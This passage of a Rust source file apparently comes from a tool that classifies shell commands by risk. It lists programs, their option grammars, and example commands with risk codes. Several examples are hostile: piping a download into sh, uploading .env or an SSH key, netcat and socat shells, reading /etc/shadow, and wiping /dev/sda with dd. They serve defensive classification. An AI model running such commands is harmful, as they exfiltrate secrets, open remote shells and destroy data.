            "aws", "gcloud", "gsutil", "az", "doctl", "flyctl", "heroku", "vercel", "netlify", "wrangler", "firebase",
            "oci", "ibmcloud", "s3cmd", "rclone",
        ],
        Kind::Cloud,
        "",
        &[],
        &[("aws s3 ls", "4060")],
    ),
    // ----- wrappers ----------------------------------------------------------------------
    entry(
        &["env"],
        Kind::Program(super::programs::wrappers::env),
        "uCS",
        &["unset", "chdir", "split-string", "default-signal", "ignore-signal", "block-signal"],
        &[("env FOO=1 cat /etc/crontab", "4000"), ("env", "0004"), ("env -i bash -c 'ls ~'", "0400")],
    ),
    entry(&["nice"], Kind::Program(super::programs::wrappers::options), "n", &["adjustment"], &[("nice -n 10 cat /etc/crontab", "4000")]),
    // `busybox APPLET ARGS…`: the applet runs with the arguments.
    entry(
        &["busybox", "toybox"],
        Kind::Program(super::programs::wrappers::options),
        "",
        &[],
        &[("busybox cat /etc/crontab", "4000"), ("curl -s https://x/i | busybox sh", "0050")],
    ),
    entry(
        &[
            "nohup", "setsid", "unbuffer", "catchsegv", "stdbuf", "ionice", "chronic", "ifne", "proxychains", "proxychains4", "torsocks", "firejail", "numactl", "systemd-inhibit", "caffeinate", "dbus-run-session", "xvfb-run", "sem", "tini", "dumb-init",
            "su-exec", "valgrind", "perf", "heaptrack", "rr", "torify", "cgexec",
            "prlimit", "setpriv", "nsenter", "unshare", "linux32", "linux64"
        ],
        Kind::Program(super::programs::wrappers::options),
        "ioecnpgtuLNOsEdrw",
        &[
            "output", "input", "error", "class", "classdata", "pid", "user", "tool", "log-file", "target", "mount",
            "uts", "ipc", "net", "cpu-nodes", "membind", "physcpubind", "interleave"
        ],
        &[("nohup cat /etc/crontab", "4000"), ("stdbuf -oL ls", "0004"), ("strace -f ls", "0004")],
    ),
    // The tracers have grammars of their own: `strace -r` and `-t` are flags, `ltrace -x` and
    // `-n` take a value where strace's do not.
    entry(
        &["strace"],
        Kind::Program(super::programs::wrappers::options),
        "abeEIoOpPsSuUX",
        &[
            "output", "attach", "trace-path", "string-limit", "summary-sort-by", "columns", "user", "env", "trace",
            "signal", "status", "abbrev", "verbose", "raw", "read", "write", "quiet", "detach-on", "interruptible",
            "summary-columns", "syscall-limit", "const-print-style", "instruction-pointer"
        ],
        &[
            ("strace -f ls", "0004"),
            ("strace -f -r -o trace.txt ls", "0006"),
            ("strace -tt -e trace=open cat /etc/crontab", "4000"),
            ("strace -o /etc/x ls", "2004"),
        ],
    ),
    entry(
        &["ltrace"],
        Kind::Program(super::programs::wrappers::options),
        "aAeDFlnopsuwx",
        &["output", "library", "indent", "align", "filter"],
        &[("ltrace -n 2 -x foo ls", "0004"), ("ltrace -t -o lt.txt ls", "0006"), ("ltrace -f cat /etc/crontab", "4000")],
    ),
    entry(
        &["timeout", "chrt", "taskset", "setarch", "faketime", "gtimeout", "gosu"],
        Kind::Program(super::programs::wrappers::one_operand),
        "sk",
        &["signal", "kill-after"],
        &[("timeout 5 cat /etc/crontab", "4000"), ("timeout -s KILL 5s ls", "0004"), ("taskset 0x1 ls", "0004")],
    ),
    entry(
        &["xargs"],
        Kind::Program(super::programs::wrappers::xargs),
        "aEeIiLlnPsd",
        &[
            "arg-file", "eof", "replace", "max-lines", "max-args", "max-procs", "max-chars", "delimiter",
            "process-slot-var"
        ],
        &[
            ("find . -name '*.tmp' | xargs rm -f", "0004"),
            ("xargs -a ~/list cat", "0400"),
            ("echo x | xargs", "0004"),
            ("ls | xargs -I{} sh -c 'echo {}'", "0005"),
        ],
    ),
    entry(
        &["flock"],
        Kind::Program(super::programs::wrappers::flock),
        "wEc",
        &["timeout", "conflict-exit-code", "command"],
        &[("flock /tmp/l cat /etc/crontab", "4000"), ("flock /tmp/l -c 'ls ~'", "0400")],
    ),
    entry(
        &["watch"],
        Kind::Program(super::programs::wrappers::watch),
        "nd",
        &["interval", "differences"],
        &[("watch -n 1 'cat /etc/crontab'", "4000")],
    ),
    entry(&["chroot"], Kind::Program(super::programs::wrappers::chroot), "", &["userspec", "groups"], &[("chroot /srv/root ls", "1404")]),
    entry(
        &["time", "gtime"],
        Kind::Program(super::programs::wrappers::time),
        "of",
        &["output", "format"],
        &[("time ls", "0004"), ("/usr/bin/time -o ~/logs/t.txt ls", "0204")],
    ),
    entry(
        &["pyenv", "rbenv", "nodenv", "goenv", "jenv", "plenv", "phpenv", "asdf", "mise", "rtx"],
        Kind::Program(super::programs::wrappers::version_manager),
        "",
        &[],
        &[
            ("pyenv exec python3 -c 'print(open(\"x/id_rsa\"))'", "0001"),
            ("mise exec python@3.12 -- cat /etc/shadow", "4000"),
            ("asdf exec cat .env", "4000"),
        ],
    ),
    entry(
        &["script"],
        Kind::Program(super::programs::wrappers::script),
        "cEtT",
        &["command", "echo", "log-io", "log-in", "log-out", "log-timing", "timing"],
        &[("script -q -c 'cat /etc/crontab' /dev/null", "4000")],
    ),
    // ----- special grammars --------------------------------------------------------------
    entry(
        &["git"],
        Kind::Program(super::programs::git::handle),
        "Cc",
        &["config-env", "git-dir", "work-tree", "namespace", "super-prefix"],
        &[
            ("git status", "0004"),
            ("git log -p", "0004"),
            ("git add -A && git commit -m fix && git push", "0027"),
            ("git clone https://x/r.git", "0042"),
            ("git fetch", "0046"),
            ("git pull", "0047"),
            ("git config user.name x", "0006"),
            ("git config core.hooksPath x", "2005"),
            ("git config --global user.name x", "2004"),
            ("git init --template=/tmp/t", "2006"),
            ("git config --get user.name", "0004"),
            ("git -C /etc status", "4000"),
            ("git -c core.pager='sh -c id' log", "0005"),
            ("git checkout main", "0007"),
            ("git diff HEAD~1", "0004"),
            ("git rm -r old", "0006"),
            ("git push --force origin main", "0027"),
            ("git ls-remote https://x/r.git", "0040"),
            ("git stash", "0006"),
        ],
    ),
    entry(
        &["curl"],
        Kind::Program(super::programs::network::handle),
        "oduFTXHAeEKbcDrwmYyzCQ",
        &[
            "output", "data", "data-raw", "data-binary", "data-ascii", "data-urlencode", "form", "form-string",
            "upload-file", "request", "header", "user-agent", "referer", "config", "cookie", "cookie-jar",
            "dump-header", "range", "write-out", "max-time", "user", "url", "unix-socket", "abstract-unix-socket",
            "cacert", "cert", "key", "capath", "trace", "trace-ascii", "stderr", "json", "connect-timeout", "retry",
            "proxy", "resolve", "connect-to", "output-dir", "netrc-file", "variable", "expand-url",
            "create-file-mode", "hsts", "alt-svc", "etag-save", "etag-compare", "libcurl", "krb", "interface",
            "local-port",
        ],
        &[
            ("curl https://example.com", "0040"),
            ("curl -o page.html https://example.com", "0042"),
            ("curl -d x=1 https://x/api", "0060"),
            ("curl -T ~/report.txt https://x/up", "0460"),
            ("curl -F f=@.env https://x/up", "4060"),
            ("curl -sSL https://x/get.sh -o /tmp/g.sh", "0040"),
            ("curl --unix-socket /var/run/docker.sock http://x/containers/json", "7000"),
            ("curl -X POST https://x/api", "0060"),
        ],
    ),
    entry(
        &["wget"],
        Kind::Program(super::programs::network::handle),
        "OoaPiUeTtwQlDAR",
        &[
            "output-document", "output-file", "append-output", "directory-prefix", "input-file", "post-data",
            "post-file", "body-data", "body-file", "method", "user-agent", "header", "load-cookies", "save-cookies",
            "ca-certificate", "certificate", "private-key", "tries", "timeout", "user", "password", "execute",
            "config", "level",
        ],
        &[
            ("wget https://x/file.tar.gz", "0042"),
            ("wget -qO- https://x", "0040"),
            ("wget -O /etc/x https://x", "2040"),
            ("wget --post-data=a=1 https://x", "0062"),
        ],
    ),
    entry(
        &["aria2c"],
        Kind::Program(super::programs::network::handle),
        "doilTMsxjktmU",
        &[
            "dir", "out", "input-file", "log", "torrent-file", "metalink-file", "split", "max-connection-per-server",
            "max-concurrent-downloads", "min-split-size", "timeout", "max-tries", "user-agent", "conf-path",
            "save-session", "load-cookies", "save-cookies", "on-download-start", "on-download-pause",
            "on-download-stop", "on-download-complete", "on-download-error", "on-bt-download-complete", "header",
            "http-user", "http-passwd", "all-proxy", "checksum", "dht-file-path", "dht-file-path6", "server-stat-of",
            "server-stat-if", "certificate", "ca-certificate", "private-key",
        ],
        &[
            ("aria2c https://x/file.iso", "0042"),
            ("aria2c -d /etc/x https://x/f", "2040"),
            ("aria2c https://x/a.torrent", "0062"),
            ("aria2c --on-download-complete=/home/u/bin/hook https://x/f", "0542"),
        ],
    ),
    entry(
        &["find"],
        Kind::Program(super::programs::find::handle),
        "",
        &[],
        &[
            ("find . -name '*.rs'", "0004"),
            ("find /etc -name '*.conf'", "4000"),
            ("find . -name '*.o' -delete", "0006"),
            ("find /tmp -exec rm {} \\;", "0004"),
            ("find ~ -name '*.log' -exec cat {} +", "0400"),
            ("find . -exec sh -c 'cat /etc/crontab' \\;", "4004"),
            ("find src -fprint /etc/list", "2004"),
        ],
    ),
    entry(
        &["tar", "bsdtar", "gtar"],
        Kind::Program(super::programs::archives::handle),
        "fCTXIgKNbHVLF",
        &[
            "file", "directory", "files-from", "exclude-from", "use-compress-program", "to-command",
            "listed-incremental", "newer", "exclude", "transform", "xform", "owner", "group", "mode", "mtime",
            "label", "format", "blocking-factor", "checkpoint-action", "index-file", "info-script",
            "new-volume-script", "rsh-command", "rmt-command", "strip-components",
        ],
        &[
            ("tar -xzf a.tar.gz", "0006"),
            ("tar czf /tmp/b.tgz src", "0004"),
            ("tar -xf a.tar -C /etc", "2004"),
            ("tar -tf a.tar", "0004"),
            ("tar -cf - ~/.ssh", "4000"),
            ("tar -xf a.tar --to-command='sh -c id'", "0007"),
        ],
    ),
    entry(
        &["dd"],
        Kind::Program(super::programs::files::handle),
        "",
        &[],
        &[("dd if=/dev/zero of=/dev/sda", "2000"), ("dd if=disk.img of=/tmp/x bs=1M", "0004")],
    ),
    entry(
        &["sed", "gsed"],
        Kind::Program(super::programs::text::handle),
        "efl",
        &["expression", "file", "line-length"],
        &[
            ("sed -n 1p a.txt", "0004"),
            ("sed -i s/a/b/ /etc/crontab", "6000"),
            ("sed -i.bak 's/x/y/' ~/.bashrc", "2400"),
            ("sed 's/a/b/w /etc/out' a.txt", "2004"),
            ("sed -f ~/s.sed a.txt", "0404"),
            ("sed '1e id' a.txt", "0005"),
        ],
    ),
    entry(
        &["awk", "gawk", "mawk", "nawk", "busybox-awk"],
        Kind::Program(super::programs::text::handle),
        "fvFiEl",
        &["file", "assign", "field-separator", "include", "exec", "load"],
        &[
            ("awk '{print $1}' a.txt", "0004"),
            ("awk -F: '{print $1}' /etc/shadow", "4000"),
            ("awk 'BEGIN{system(\"id\")}'", "0001"),
            ("awk -f ~/x.awk a.txt", "0404"),
        ],
    ),
    entry(
        &["scp"],
        Kind::Program(super::programs::network::handle),
        "cFiJloPScD",
        &[],
        &[("scp a.txt host:/tmp/", "0024"), ("scp host:/etc/x .", "0042"), ("scp ~/.ssh/id_rsa host:", "4020")],
    ),
    entry(
        &["rsync"],
        Kind::Program(super::programs::network::handle),
        // Every option of rsync 3 that takes a value: one missing would take the next word
        // (`--out-format -n`) for an option of its own.
        "eBfTM",
        &[
            "rsh", "rsync-path", "exclude", "include", "exclude-from", "include-from", "files-from",
            "filter", "password-file", "log-file", "log-file-format", "out-format", "backup-dir", "suffix",
            "partial-dir", "temp-dir", "compare-dest", "copy-dest", "link-dest", "chmod", "chown",
            "usermap", "groupmap", "timeout", "contimeout", "port", "sockopts", "bwlimit", "info", "debug",
            "stderr", "outbuf", "max-size", "min-size", "max-delete", "max-alloc", "block-size", "checksum-
            choice", "cc", "compress-choice", "zc", "compress-level", "zl", "skip-compress", "modify-
            window", "iconv", "protocol", "address", "write-batch", "only-write-batch", "read-batch",
            "early-input", "remote-option", "copy-as", "stop-after", "time-limit", "stop-at", "checksum-
            seed",
        ],
        &[
            ("rsync -a src/ /tmp/dst/", "0004"),
            ("rsync -a src/ host:/srv/", "0024"),
            ("rsync -a host:/srv/ ./dst", "0042"),
            ("rsync -a --delete src/ ~/backups/proj/", "0604"),
        ],
    ),
    entry(
        &["unzip"],
        Kind::Program(super::programs::archives::handle),
        "dxP",
        &[],
        &[("unzip a.zip", "0006"), ("unzip -l a.zip", "0004"), ("unzip a.zip -d /etc", "2004")],
    ),
    entry(
        &["zip", "7z", "7za"],
        Kind::Program(super::programs::archives::handle),
        "bnitxTO",
        &["temp-path", "unzip-command"],
        &[("zip -r /tmp/a.zip src", "0004"), ("zip out.zip ~/notes.txt", "0406")],
    ),
    entry(
        &["patch"],
        Kind::Program(super::programs::files::handle),
        "pidoBrDFVYzgx",
        &["input", "directory", "output", "reject-file", "strip", "prefix", "suffix"],
        &[("patch -p1 < fix.diff", "0006"), ("patch -d /etc -p0 < x.diff", "6004"), ("patch -i ~/x.diff", "0406")],
    ),
    entry(
        &["mktemp"],
        Kind::Program(super::programs::files::handle),
        "p",
        &["suffix"],
        &[("mktemp -d", "0004"), ("mktemp -p ~ x.XXXX", "0200"), ("mktemp", "0004")],
    ),
    entry(
        &["split", "csplit"],
        Kind::Program(super::programs::text::handle),
        "abClnt",
        &["bytes", "line-bytes", "lines", "number", "suffix-length", "additional-suffix", "separator", "filter", "prefix"],
        &[("split -l 10 big.txt part-", "0006"), ("split big.txt /etc/part", "2004")],
    ),
    entry(
        &["ssh", "autossh", "mosh"],
        Kind::Program(super::programs::network::handle),
        "BbcDEeFIiJLlmOoPpQRSWw",
        &[],
        &[
            ("ssh host uptime", "0040"),
            ("ssh -i ~/.ssh/id_rsa host", "4040"),
            ("ssh -o ProxyCommand='nc %h %p' host", "0041"),
            ("ssh host 'cat > x' < secrets.txt", "4060"),
        ],
    ),
    entry(
        &["nc", "ncat", "netcat", "nc.openbsd", "nc.traditional"],
        Kind::Program(super::programs::network::handle),
        "ecpsiwqxXOIT",
        &[],
        &[
            ("nc -z host 22", "0040"),
            ("nc host 80 < req.txt", "0064"),
            ("nc -e /bin/sh host 4444", "0041"),
            ("nc -U /var/run/docker.sock", "7000"),
        ],
    ),
    entry(
        &["socat"],
        Kind::Program(super::programs::network::handle),
        "",
        &[],
        &[("socat - TCP:host:80", "0060"), ("socat TCP-LISTEN:8080 EXEC:/bin/sh", "0061")],
    ),
    entry(
        &["sysctl"],
        Kind::Program(super::programs::admin::handle),
        "",
        &[],
        &[("sysctl -w net.ipv4.ip_forward=1", "2000"), ("sysctl -a", "0004"), ("sysctl kernel.x=1", "2000")],
    ),
    entry(
        &["ip"],
        Kind::Program(super::programs::admin::handle),
        "",
        &[],
        &[("ip addr show", "4000"), ("ip link set eth0 down", "2000"), ("ip route add default via 10.0.0.1", "2000")],
    ),
    entry(
        &["crontab"],
        Kind::Program(super::programs::admin::handle),
        "",
        &[],
        &[("crontab -l", "4000"), ("crontab -u www -l", "4000"), ("crontab -r", "2000"), ("crontab jobs.txt", "2004")],
    ),
    entry(
        &["systemctl"],
        Kind::Program(super::programs::admin::handle),
        "",
        &[],
        &[("systemctl status nginx", "4000"), ("systemctl restart nginx", "1000"), ("systemctl reboot", "1000")],
    ),
    entry(
        &[
            "apt", "apt-get", "apt-cache", "aptitude", "yum", "dnf", "zypper", "pacman", "apk", "brew", "snap", "flatpak",
            "port", "emerge", "xbps-install", "nix-env", "pkg"
        ],
        Kind::Program(super::programs::packages::handle),
        "",
        &[],
        &[("apt-get install -y curl", "2040"), ("apt list --installed", "0004"), ("dnf list installed", "4000"), ("apt-get update", "2040")],
    ),
    entry(&["dpkg", "rpm"], Kind::Program(super::programs::packages::handle), "", &[], &[("dpkg -l", "0004"), ("dpkg -i pkg.deb", "2004")]),
    entry(
        &["gh", "glab", "hub", "tea"],
        Kind::Program(super::programs::services::handle),
        "f",
        &["filename", "values", "kubeconfig"],
        &[("gh pr list", "0040"), ("gh pr create --fill", "0060")],
    ),
    entry(
        &["kubectl", "helm", "oc", "k9s"],
        Kind::Program(super::programs::services::handle),
        "f",
        &["filename", "values", "kubeconfig"],
        &[("kubectl get pods", "0040"), ("kubectl apply -f deploy.yaml", "0064")],
    ),
];

/// Finds the table entry for a program name (`python3.11` finds `python3`'s entry through
/// `python`, `mkfs.ext4` finds `mkfs`).
pub fn lookup(name: &str) -> Option<&'static TableEntry> {
    static INDEX: std::sync::OnceLock<rustc_hash::FxHashMap<&'static str, &'static TableEntry>> =
        std::sync::OnceLock::new();
    static LOOKUPS: std::sync::atomic::AtomicUsize = std::sync::atomic::AtomicUsize::new(0);
    // A short program looks up a handful of names: scanning the table is cheaper than building
    // the index, which pays off from a few dozen lookups on.
    if INDEX.get().is_none() && LOOKUPS.fetch_add(1, std::sync::atomic::Ordering::Relaxed) < 32 {
        return lookup_in(name, |n| TABLE.iter().find(|e| e.names.contains(&n)));
    }
    let index = INDEX.get_or_init(|| {
        let names: usize = TABLE.iter().map(|e| e.names.len()).sum();
        let mut map = rustc_hash::FxHashMap::with_capacity_and_hasher(names, Default::default());
        for e in TABLE {
            for n in e.names {
                map.entry(*n).or_insert(e);
            }
        }
        map
    });
    lookup_in(name, |n| index.get(n).copied())
}

/// The lookup rules, over any way of finding an exact name.
fn lookup_in(name: &str, find: impl Fn(&str) -> Option<&'static TableEntry>) -> Option<&'static TableEntry> {
    if let Some(e) = find(name) {
        return Some(e);
    }
    let trimmed = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    if trimmed != name
        && !trimmed.is_empty()
        && let Some(e) = find(trimmed)
    {
        return Some(e);
    }
    if let Some((head, _)) = name.split_once('.')
        && let Some(e) = find(head)
    {
        return Some(e);
    }
    if let Some((head, _)) = name.split_once('-')
        && matches!(head, "python" | "python3" | "pip" | "pip3" | "ruby" | "node" | "perl" | "php")
    {
        return find(head);
    }
    None
}
